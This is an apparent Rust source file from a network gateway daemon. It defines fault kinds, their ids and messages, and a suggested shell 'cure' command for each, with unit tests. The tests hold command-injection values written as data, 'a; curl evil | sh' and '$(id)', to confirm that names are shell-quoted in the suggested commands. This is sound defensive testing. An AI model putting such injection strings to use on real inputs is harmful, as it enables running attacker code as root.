//! What is wrong and needs somebody's eye: a kind that programs can rely on, a sentence, and the
//! command that cures it.

use std::collections::BTreeSet;
use std::fmt;
use std::time::Duration;

use crate::addr::{InterfaceName, shell_word};
use crate::gateway::{Key, Waiting};
use crate::host::{KernelError, Kind, Object};

use super::command::Failure;
use super::concern::Subject;
use super::memory::PutAside;
use super::platform::BadLease;

/// Something that is wrong.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Problem {
    /// The kernel cannot be observed, so nothing is known to be right.
    Unseen(String),
    /// The kernel refuses a step, or does not keep to what it has acknowledged.
    Refused(KernelError),
    /// A port's device cannot be opened.
    PortFailed {
        /// The port.
        port: InterfaceName,
        /// Why not.
        reason: String,
    },
    /// A port waits for the interface that it attaches to.
    PortAbsent {
        /// The port.
        port: InterfaceName,
        /// What was looked for.
        reason: String,
    },
    /// A port's interface is down or gone.
    PortLost(InterfaceName),
    /// The uplinks' tables have no names for people.
    TableNames(String),
    /// A lease's file cannot be read.
    LeaseBad(BadLease),
    /// An uplink has no address, since no DHCP client has leased one for it.
    LeaseMissing(Waiting),
    /// An uplink has no address, since another has the one that was leased.
    LeaseTaken(Waiting),
    /// The fabric's device that the configuration names is not taken.
    FabricWaiting(String),
    /// The fabric's device cannot be given back to the host.
    FabricStuck(String),
    /// What is written down of the fabric's device is not what is.
    FabricJournal(String),
    /// A configuration was not confirmed, and what stood before cannot come back.
    TrialStuck(String),
    /// What calls have added cannot be written down.
    StateUnsaved(String),
    /// What calls had added before the start could not be read.
    StateAside(PutAside),
    /// Something that a call had added before the start does not fit now.
    StateUnfit {
        /// What it goes by.
        key: Key,
        /// Why it does not fit.
        reason: String,
    },
    /// Something else keeps undoing what is repaired.
    Dispute {
        /// What is undone.
        object: Object,
        /// How often it was repaired.
        repairs: u64,
        /// For how long it is left alone.
        rest: Option<Duration>,
    },
}

impl Problem {
    /// Every id that there is.
    pub const IDS: [&str; 17] = [
        "VGW-HOST-UNSEEN",
        "VGW-HOST-REFUSED",
        "VGW-PORT-FAILED",
        "VGW-PORT-ABSENT",
        "VGW-PORT-LOST",
        "VGW-TABLE-NAMES",
        "VGW-LEASE-BAD",
        "VGW-LEASE-MISSING",
        "VGW-LEASE-TAKEN",
        "VGW-FABRIC-WAITING",
        "VGW-FABRIC-STUCK",
        "VGW-FABRIC-JOURNAL",
        "VGW-DISPUTE",
        "VGW-TRIAL-STUCK",
        "VGW-STATE-UNSAVED",
        "VGW-STATE-ASIDE",
        "VGW-STATE-UNFIT",
    ];

    /// Its kind, the same in every version; docs/operations.md has a word on each.
    #[must_use]
    pub fn id(&self) -> &'static str {
        let [unseen, refused, failed, absent, lost, tables, bad, missing, taken, rest @ ..] = Self::IDS;
        let [waiting, stuck, journal, dispute, trial, unsaved, aside, unfit] = rest;
        match self {
            Self::Unseen(_) => unseen,
            Self::Refused(_) => refused,
            Self::PortFailed { .. } => failed,
            Self::PortAbsent { .. } => absent,
            Self::PortLost(_) => lost,
            Self::TableNames(_) => tables,
            Self::LeaseBad(_) => bad,
            Self::LeaseMissing(_) => missing,
            Self::LeaseTaken(_) => taken,
            Self::FabricWaiting(_) => waiting,
            Self::FabricStuck(_) => stuck,
            Self::FabricJournal(_) => journal,
            Self::Dispute { .. } => dispute,
            Self::TrialStuck(_) => trial,
            Self::StateUnsaved(_) => unsaved,
            Self::StateAside(_) => aside,
            Self::StateUnfit { .. } => unfit,
        }
    }

    /// The command that cures it, or shows who can, as a shell takes it; words in capitals are to be filled in.
    #[must_use]
    pub fn cure(&self) -> String {
        let name = |name: &InterfaceName| shell_word(name.as_str()).into_owned();
        match self {
            Self::Unseen(_) => "journalctl -u vgwd -p err".to_owned(),
            // The doctor names the device, and the command.
            Self::Refused(error) if error.is_of_device() => "vgw doctor".to_owned(),
            Self::Refused(_) => "vgw host diff".to_owned(),
            Self::PortFailed { port, .. } => format!("ip -details link show dev {}", name(port)),
            Self::PortAbsent { port, .. } => format!("vgw port delete {}", name(port)),
            Self::PortLost(port) => format!("ip link set dev {} up", name(port)),
            Self::TableNames(_) => "ls -l /etc/iproute2/rt_tables.d".to_owned(),
            Self::LeaseBad(BadLease { file, .. }) => format!("rm {}", shell_word(file)),
            Self::LeaseMissing(Waiting { lease, .. }) => {
                format!("vgw uplink lease {} --address ADDRESS/LENGTH --via ROUTER", name(&lease.device))
            }
            Self::LeaseTaken(Waiting { uplink, .. }) => {
                format!("vgw uplink delete {}", shell_word(&uplink.to_string()))
            }
            Self::FabricWaiting(_) => "vgw fabric take DEVICE --dry-run".to_owned(),
            Self::FabricStuck(_) => "vgw fabric give-back".to_owned(),
            Self::TrialStuck(_) => "vgw rollback".to_owned(),
            Self::FabricJournal(_) | Self::StateUnsaved(_) => "journalctl -u vgwd -p err".to_owned(),
            Self::StateAside(PutAside { file, .. }) => format!("rm {}", shell_word(file)),
            Self::StateUnfit { key: Key::Route(instance, prefix), .. } => {
                format!("vgw route delete --instance {} {prefix}", shell_word(instance.as_str()))
            }
            Self::StateUnfit { key, .. } => format!("vgw {} delete {}", key.kind(), shell_word(&key.to_string())),
            Self::Dispute { object, .. } => match object.kind() {
                Kind::Link => "ip monitor link".to_owned(),
                Kind::Address => "ip monitor address".to_owned(),
                Kind::Route => "ip monitor route".to_owned(),
                Kind::Rule => "ip monitor rule".to_owned(),
                Kind::Setting => "vgw host diff".to_owned(),
                Kind::Masquerade => "nft monitor".to_owned(),
            },
        }
    }

    /// True if it may pass by itself, and nobody will tell when it has. Of devices and files the sentence alone says
    /// what is wrong; to try them again costs little.
    pub(super) fn is_passing(&self) -> bool {
        match self {
            Self::Refused(error) => error.is_passing(),
            Self::PortFailed { .. } | Self::TableNames(_) => true,
            _ => false,
        }
    }

    /// A step that was refused.
    pub(super) fn of_failure(failure: &Failure, blamed: &BTreeSet<Subject>) -> Self {
        match (failure, blamed.first()) {
            (Failure::Kernel(error), _) => Self::Refused(error.clone()),
            (Failure::Device(reason) | Failure::Unfit { reason, .. }, Some(Subject::Interface(port))) => {
                Self::PortFailed { port: *port, reason: reason.clone() }
            }
            // Of steps only those two can fail.
            (other, _) => Self::Unseen(other.to_string()),
        }
    }

    /// An uplink that leads nowhere.
    pub(super) fn of_waiting(waiting: Waiting) -> Self {
        if waiting.taken.is_some() { Self::LeaseTaken(waiting) } else { Self::LeaseMissing(waiting) }
    }
}

impl fmt::Display for Problem {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Unseen(reason)
            | Self::TableNames(reason)
            | Self::PortFailed { reason, .. }
            | Self::PortAbsent { reason, .. } => f.write_str(reason),
            Self::Refused(error) => error.fmt(f),
            Self::PortLost(port) => {
                write!(f, "port {port}: its interface is down or gone; the next check tries whether it is back")
            }
            Self::LeaseBad(bad) => bad.fmt(f),
            Self::LeaseMissing(waiting) | Self::LeaseTaken(waiting) => waiting.fmt(f),
            Self::TrialStuck(reason) => {
                write!(f, "the configuration before the one on trial cannot come back: {reason}")
            }
            Self::StateUnsaved(reason) => {
                write!(f, "what calls have added is not saved, and would not come back after a restart: {reason}")
            }
            Self::StateAside(aside) => aside.fmt(f),
            Self::StateUnfit { key, reason } => {
                write!(f, "{} {key}, added by a call before the start, does not stand: {reason}", key.kind())
            }
            Self::FabricWaiting(reason) => write!(f, "the fabric's device is not taken: {reason}"),
            Self::FabricStuck(reason) => write!(f, "the fabric's device is not given back: {reason}"),
            Self::FabricJournal(reason) => {
                write!(f, "what is written down of the fabric's device is not how it stands: {reason}")
            }
            Self::Dispute { object, repairs, rest } => {
                write!(f, "{object}: repaired {repairs} times, and undone again and again by something else; ")?;
                match rest {
                    None => f.write_str("it is repaired at once if that happens again"),
                    Some(rest) => write!(f, "it is left alone for another {} s", rest.as_secs() + 1),
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// One problem of each kind. A kind that is missing here has an id that no test sees.
    fn all() -> Vec<Problem> {
        let port: InterfaceName = "vnet7".parse().unwrap();
        let lease = crate::gateway::LeaseName { device: port, family: crate::addr::Family::V4 };
        let waiting = Waiting { uplink: "wan".parse().unwrap(), lease, taken: None };
        let taken = Waiting { taken: Some([20, 0, 0, 5].into()), ..waiting.clone() };
        let error = KernelError { operation: "route add".into(), reason: "no".into(), errno: 1 };
        vec![
            Problem::Unseen("no".into()),
            Problem::Refused(error),
            Problem::PortFailed { port, reason: "no".into() },
            Problem::PortAbsent { port, reason: "no".into() },
            Problem::PortLost(port),
            Problem::TableNames("no".into()),
            Problem::LeaseBad(BadLease { file: "/run/vgw/leases/eth1.ipv4".into(), reason: "no".into() }),
            Problem::of_waiting(waiting),
            Problem::of_waiting(taken),
            Problem::FabricWaiting("no".into()),
            Problem::FabricStuck("no".into()),
            Problem::FabricJournal("no".into()),
            Problem::Dispute { object: Object::Link(port), repairs: 5, rest: None },
            Problem::TrialStuck("no".into()),
            Problem::StateUnsaved("no".into()),
            Problem::StateAside(PutAside { file: "/var/lib/vgw/dynamic.jsonl.aside-1".into(), reason: "no".into() }),
            Problem::StateUnfit { key: Key::Port(port), reason: "no".into() },
        ]
    }

    #[test]
    fn every_id_is_in_the_manual() {
        let manual = include_str!("../../docs/operations.md");
        let ids: Vec<_> = all().iter().map(Problem::id).collect();
        assert_eq!(ids, Problem::IDS);
        for id in ids {
            assert!(manual.contains(&format!("| `{id}` |")), "docs/operations.md does not tell of {id}");
        }
    }

    #[test]
    fn sentences_and_cures_name_what_is_wrong() {
        let [.., missing, taken, _, _, _, _, _, _, _, unfit] = &all()[..] else { panic!("too few") };
        assert_eq!(missing.to_string(), "uplink wan leads nowhere: vnet7 has no ipv4 lease");
        assert_eq!(missing.cure(), "vgw uplink lease vnet7 --address ADDRESS/LENGTH --via ROUTER");
        assert_eq!(
            taken.to_string(),
            "uplink wan leads nowhere: the address 20.0.0.5 leased there is another uplink's"
        );
        assert_eq!(unfit.to_string(), "port vnet7, added by a call before the start, does not stand: no");
        assert_eq!(unfit.cure(), "vgw port delete vnet7");
        let refused = |errno| {
            let operation = "route add 20.0.0.0/24 dev eth1".into();
            Problem::Refused(KernelError { operation, reason: "no".into(), errno }).cure()
        };
        assert_eq!([refused(100), refused(19), refused(1)], ["vgw doctor", "vgw doctor", "vgw host diff"]);
        let key = Key::Route("a:b".parse().unwrap(), "10.0.0.0/8".parse().unwrap());
        let route = Problem::StateUnfit { key, reason: "no".into() };
        assert_eq!(route.cure(), "vgw route delete --instance a:b 10.0.0.0/8");
        // Whoever may call chooses names, and root types what is told.
        let key = Key::Route("a; curl evil | sh".parse().unwrap(), "10.0.0.0/8".parse().unwrap());
        let route = Problem::StateUnfit { key, reason: "no".into() };
        assert_eq!(route.cure(), "vgw route delete --instance 'a; curl evil | sh' 10.0.0.0/8");
        assert_eq!(Problem::PortLost("$(id)".parse().unwrap()).cure(), "ip link set dev '$(id)' up");
        let dispute = |rest| {
            let object = Object::Link("vgw1".parse().unwrap());
            Problem::Dispute { object, repairs: 5, rest }.to_string()
        };
        assert!(dispute(Some(Duration::from_millis(1200))).ends_with("left alone for another 2 s"));
        assert!(dispute(None).ends_with("repaired at once if that happens again"));
    }
}
